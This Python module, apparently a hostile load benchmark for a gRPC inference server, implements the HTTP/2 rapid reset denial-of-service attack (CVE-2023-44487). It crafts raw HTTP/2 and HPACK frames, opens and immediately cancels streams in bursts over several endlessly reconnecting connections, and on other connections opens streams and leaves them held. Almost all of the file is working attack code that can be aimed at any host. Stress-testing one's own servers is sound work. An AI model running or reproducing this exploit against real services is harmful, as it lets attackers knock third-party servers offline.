"""gRPC streams that are opened and given up at once, and streams that are opened and left, in HTTP/2 of our own.

The first is known as rapid reset (CVE-2023-44487): each costs the server a call, and its client next to nothing.
"""

import asyncio
import struct
from collections import Counter
from contextlib import suppress

from torchferry.benchmarks.hostile.connection import Connection
from torchferry.benchmarks.hostile.valid import INFER
from torchferry.benchmarks.hostile.where import Where

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
END_HEADERS, ACK = 4, 1
CANCEL = struct.pack(">I", 8)
RESETTING, LEAVING = 4, 8
"""Connections of each kind."""
AT_ONCE = 50  # streams that are opened and reset before the next look at what came
LEFT = 400  # streams that one connection opens and leaves
PAUSE = 0.02
AGAIN = 0.5  # seconds until a connection that was closed is made again


async def attack(where: Where, counted: Counter[str]) -> None:
    block = _fields(where)
    await asyncio.gather(
        *(_again_and_again(where, block, counted, reset=True) for _ in range(RESETTING)),
        *(_again_and_again(where, block, counted, reset=False) for _ in range(LEAVING)),
    )


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


async def _again_and_again(where: Where, block: bytes, counted: Counter[str], *, reset: bool) -> None:
    while True:
        with suppress(OSError):
            async with Connection.to(where, where.grpc_port) as connection:
                connection.writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
                answering = asyncio.ensure_future(_answer_pings(connection))
                try:
                    await _open(connection, block, answering, counted, reset=reset)
                finally:
                    answering.cancel()
                counted["connections closed"] += 1
        await asyncio.sleep(AGAIN)


async def _open(
    connection: Connection, block: bytes, answering: asyncio.Future[None], counted: Counter[str], *, reset: bool
) -> None:
    """Until the server closes the connection; of streams that are left only so many."""
    number = 1
    while not answering.done() and not connection.writer.is_closing() and number < 2**31 - 2 * AT_ONCE:
        if reset or number < 2 * LEFT:
            for _ in range(AT_ONCE):
                opened = frame(HEADERS, END_HEADERS, number, block)
                connection.writer.write(opened + (frame(RST_STREAM, 0, number, CANCEL) if reset else b""))
                number += 2
            counted["streams reset" if reset else "streams left"] += AT_ONCE
        await connection.writer.drain()
        await asyncio.sleep(PAUSE)


async def _answer_pings(connection: Connection) -> None:
    """As a client does that wants to keep its connection; ends with that."""
    with suppress(OSError, asyncio.IncompleteReadError):
        while True:
            head = await connection.reader.readexactly(9)
            content = await connection.reader.readexactly(int.from_bytes(head[:3]))
            if head[3] == PING and not head[4] & ACK:
                connection.writer.write(frame(PING, ACK, 0, content))


def _fields(where: Where) -> bytes:
    """A call's headers as HPACK has them without any table: literal, never indexed."""
    authority = f"{where.host}:{where.grpc_port}"
    fields = {":method": "POST", ":scheme": "http", ":path": INFER, ":authority": authority}
    fields |= {"content-type": "application/grpc", "te": "trailers"}
    return b"".join(b"\x10" + _text(name) + _text(value) for name, value in fields.items())


def _text(text: str) -> bytes:
    assert len(text) < 127, text  # longer ones have lengths of several bytes
    return bytes([len(text)]) + text.encode()
